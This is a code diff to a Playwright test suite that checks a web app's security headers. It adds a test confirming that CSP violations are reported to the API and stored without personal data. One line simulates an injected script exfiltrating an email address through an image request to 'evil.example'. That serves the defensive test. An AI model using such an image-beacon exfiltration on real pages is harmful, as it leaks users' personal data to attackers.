@@ -4,13 +4,15 @@
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
-import { rootDir } from '../../tooling/pnpm.mjs';
-import { securityHeaders } from '../../tooling/security-headers.mjs';
-import { serveStatic } from '../../tooling/static-server.mjs';
+import { remoteApps } from '../../tooling/build/apps.mjs';
+import { rootDir } from '../../tooling/machine/pnpm.mjs';
+import { securityHeaders } from '../../tooling/serve/security-headers.mjs';
+import { serveStatic } from '../../tooling/serve/static-server.mjs';
 import { siteConfig } from '../support/site-ports.mjs';
+import { chromium } from '@playwright/test';
 import { expect, test } from '../support/fixtures';
 
-const remotes = ['catalog', 'content', 'account'] as const;
+const remotes = remoteApps.map(({ name }) => name);
 const portOf = (server: Server) => (server.address() as AddressInfo).port;
 
 test.describe('security headers', () => {
@@ -31,6 +33,12 @@ test.describe('security headers', () => {
       expect(headers['x-content-type-options'], url).toBe('nosniff');
       expect(headers['referrer-policy'], url).toBe('strict-origin-when-cross-origin');
       expect(headers['content-security-policy'], url).toBe(expected['Content-Security-Policy']);
+      // Issue 23: features no page uses refused, no window handle across origins, violations reported.
+      expect(headers['permissions-policy'], url).toBe(expected['Permissions-Policy']);
+      expect(headers['cross-origin-opener-policy'], url).toBe('same-origin');
+      expect(headers['content-security-policy'], url).toContain(`report-uri ${site.apiBaseUrl}reports`);
+      // Served over plain HTTP: HSTS would be ignored, and is never sent.
+      expect(headers['strict-transport-security'], url).toBeUndefined();
     }
 
     const policy = expected['Content-Security-Policy'];
@@ -70,6 +78,37 @@ test.describe('security headers', () => {
     } finally {
       for (const server of [unprotected, attacker]) server.closeAllConnections();
       await Promise.all([unprotected, attacker].map((server) => new Promise((resolve) => server.close(resolve))));
+    }
+  });
+
+  test('a violation of the policy is reported by the browser to the API, which keeps it without personal data (issue 23)', async ({ request, site }) => {
+    // A browser of its own: the suite's fixture fails a test on any violation.
+    const browser = await chromium.launch({
+      executablePath: '/usr/bin/chromium',
+      args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking'],
+    });
+    const since = new Date(Date.now() - 1000).toISOString();
+    try {
+      const page = await browser.newPage();
+      await page.goto(`${site.origin}/reset-password/a1b2c3d4e5f6a7b8c9d0e1f2?email=jane@example.co.ke`);
+      await expect(page.locator('html[data-shell]')).toBeAttached();
+      // What an injected script would try: a picture from a site the policy does not list.
+      await page.evaluate(() => {
+        const picture = document.createElement('img');
+        picture.src = 'https://evil.example/pixel.png?stolen=jane@example.co.ke';
+        document.body.append(picture);
+      });
+      const cspReports = async () => {
+        const answer = await request.get(`${site.apiBaseUrl}test/reports`, { params: { since } });
+        const { reports } = (await answer.json()) as { reports: Record<string, unknown>[] };
+        return reports.filter((report) => report.kind === 'csp');
+      };
+      await expect.poll(cspReports, { timeout: 20_000 }).toHaveLength(1);
+      const [stored] = await cspReports();
+      expect(stored).toMatchObject({ kind: 'csp', path: '/reset-password/*', subject: 'img-src', message: 'https://evil.example', session: null });
+      expect(JSON.stringify(stored)).not.toMatch(/jane|a1b2c3d4e5f6|stolen|127\.0\.0\.1/);
+    } finally {
+      await browser.close();
     }
   });
 
